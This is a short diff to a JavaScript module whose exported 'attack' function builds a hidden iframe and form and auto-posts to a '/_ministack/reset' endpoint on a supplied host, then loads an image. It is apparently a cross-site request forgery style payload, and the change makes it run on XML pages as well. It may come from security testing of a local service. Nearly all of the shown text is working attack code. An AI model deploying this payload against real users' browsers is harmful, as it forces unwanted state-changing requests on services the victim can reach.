@@ -47,11 +47,13 @@ export async function attack(at) {
     }
   }
   // What needs no script's leave to be sent: a form that is posted, and a picture.
-  const frame = document.createElement('iframe');
+  // The page may be XML: the lake's own refusal, under a name that was rebound.
+  const element = (name) => document.createElementNS('http://www.w3.org/1999/xhtml', name);
+  const frame = element('iframe');
   frame.name = 'out';
-  const form = document.createElement('form');
+  const form = element('form');
   Object.assign(form, { method: 'POST', action: `${at}/_ministack/reset`, target: 'out' });
-  document.body.append(frame, form);
+  document.documentElement.append(frame, form);
   form.submit();
   const image = new Image();
   await Promise.race([
